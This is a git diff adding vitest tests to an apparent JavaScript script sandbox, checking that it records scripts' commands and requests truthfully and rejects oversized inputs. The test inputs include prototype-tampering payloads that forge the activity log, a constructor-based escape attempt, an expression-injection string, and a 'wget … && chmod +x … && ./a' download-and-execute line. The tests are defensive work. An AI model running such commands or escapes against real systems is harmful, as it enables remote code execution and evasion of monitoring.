@@ -1,5 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { Sandbox } from './sandbox.ts'
+import { scriptJob } from './script-job.ts'
+import { openJavascript } from './worker-javascript.ts'
 import type { World } from './world/world.ts'
 
 let sandbox: Sandbox
@@ -73,6 +75,94 @@ describe('a script in a pretend world', () => {
   })
 })
 
+const FORGED = [
+  ['JSON', 'JSON.stringify = () => \'{"ran":[{"from":"x"}]}\'; JSON.parse = () => ({ value: 1 }); 1'],
+  ['lists', "Array.prototype.push = function () { this[0] = 'forged'; return 1 }; require('os').hostname()"],
+  [
+    'texts and their conversions',
+    "String.prototype.toJSON = () => 'forged'; Object.prototype.toJSON = () => ({ ran: [1] }); process.cwd()",
+  ],
+  [
+    'getters and setters of everything',
+    "for (const key of ['commands', 'requests', 'ran', 'value', '0', 'length']) Object.defineProperty(Object.prototype, key, { get: () => ['forged'], set() {} }); 1",
+  ],
+  [
+    'patterns and maps',
+    "RegExp.prototype.exec = () => ['x', './x']; Map.prototype.get = () => ({ mayRun: true, from: 'x' }); require('fs').existsSync('/x')",
+  ],
+  [
+    'calls',
+    "Function.prototype.call = Function.prototype.apply = Reflect.apply = () => 'forged'; process.uptime()",
+  ],
+] as const
+
+describe('what a script did is told by the machine, not by the script:', () => {
+  it.each(FORGED)('whatever becomes of %s', async (_what, source) => {
+    expect((await run(source)).deeds).toEqual({ commands: [], requests: [], ran: [] })
+  })
+
+  it('what it really did is told all the same', async () => {
+    const { deeds } = await run(
+      "Array.prototype.push = () => 0; Map.prototype.get = () => 0; JSON.parse = () => ({}); require('child_process').exec('wget -O a http://b.c/a && chmod +x a && ./a')",
+    )
+    expect(deeds.requests).toEqual(['http://b.c/a'])
+    expect(deeds.ran).toEqual([{ program: '/juice-shop/a', from: 'http://b.c/a' }])
+  })
+
+  it('what was done before time ran out is told as well', async () => {
+    const work = await openJavascript()
+    const source = "require('child_process').exec('id'); for (;;);"
+    const job = scriptJob({ source, deadlineMs: 100, owner: 'anna' }, { world: WORLD })
+    expect(work(job).outcome).toMatchObject({
+      fault: { timedOut: true },
+      deeds: { commands: ['id'], requests: [], ran: [] },
+    })
+  })
+
+  it('the machine hands out nothing that leads to its own realm', async () => {
+    const { deeds, value } = await run(
+      `let found = 'nothing'
+      try { require('fs').readFileSync('/missing') } catch (error) {
+        error.constructor.constructor('Array.prototype.push = function () { this[0] = 1 }; Map.prototype.has = () => true')()
+        found = error.code
+      }
+      require('child_process').execSync('echo hi')
+      found`,
+    )
+    expect(value).toBe('ENOENT')
+    expect(deeds.commands).toEqual(['echo hi'])
+  })
+
+  it('no more of it than one can read', async () => {
+    const { deeds } = await run(
+      "for (let i = 0; i < 60; i++) { try { require('child_process').execSync('true ' + 'x'.repeat(5000)); fetch('y'.repeat(5000)) } catch {} } 1",
+    )
+    expect(deeds.commands.length).toBeGreaterThan(10)
+    expect(JSON.stringify(deeds).length).toBeLessThan(64 << 10)
+  })
+})
+
+describe('what a script brings is bounded:', () => {
+  const long = 'x'.repeat((1 << 20) + 1)
+  it.each([
+    ['itself', { source: `1 // ${long}` }, WORLD],
+    ['wide letters', { source: `1 // ${'ж'.repeat(40_000)}` }, WORLD],
+    ['its globals', { source: '1', globals: { long } }, WORLD],
+    ['its world', { source: '1' }, { ...WORLD, files: { '/a': `ж${long}` } }],
+  ])('%s', async (_what, job, world) => {
+    const { error } = await sandbox.inWorld({ ...job, owner: 'anna' }, world)
+    expect(error).toMatchObject({ name: 'RangeError', message: expect.stringContaining('too long') })
+  })
+
+  it('a machine full of files of the widest kind is no trouble', async () => {
+    const files = Object.fromEntries(
+      Array.from({ length: 8 }, (_, index) => [`/${index}`, `ж${'\0'.repeat((64 << 10) - 2)}`]),
+    )
+    const job = { source: "require('fs').readFileSync('/7').length", owner: 'anna' }
+    expect(await sandbox.inWorld(job, { ...WORLD, files })).toMatchObject({ value: 65_535, error: undefined })
+  })
+})
+
 describe('an expression that is asked of documents', () => {
   const documents = [{ product: 1 }, { product: 2 }, { product: 3 }]
   const where = (expression: string) => sandbox.where(expression, documents, 'anna')
@@ -80,6 +170,20 @@ describe('an expression that is asked of documents', () => {
   it('sees each of them as this', async () => {
     expect((await where('this.product == 2')).matches).toEqual([false, true, false])
     expect((await where('this.product == 1 || true')).matches).toEqual([true, true, true])
+  })
+
+  it('sees as many as there is room for, and says nothing of the rest', async () => {
+    const many = Array.from({ length: 5_000 }, () => ({ message: 'x'.repeat(1_000) }))
+    const { matches } = await sandbox.where("this.message + 'all'", many, 'anna')
+    expect(matches).toHaveLength(5_000)
+    expect(matches[0]).toBe(true)
+    expect(matches.at(-1)).toBe(false)
+  })
+
+  it('answers with yes and no, whatever else it would like to say', async () => {
+    const answer = '1 }).call(one) }), Array(349000).fill([])) || ((function () { return 1'
+    const told = await where(answer).catch(({ name }) => name)
+    expect(['RangeError', 'SyntaxError', 'TypeError']).toContain(told)
   })
 
   it('may sleep, which is counted and takes no time', async () => {
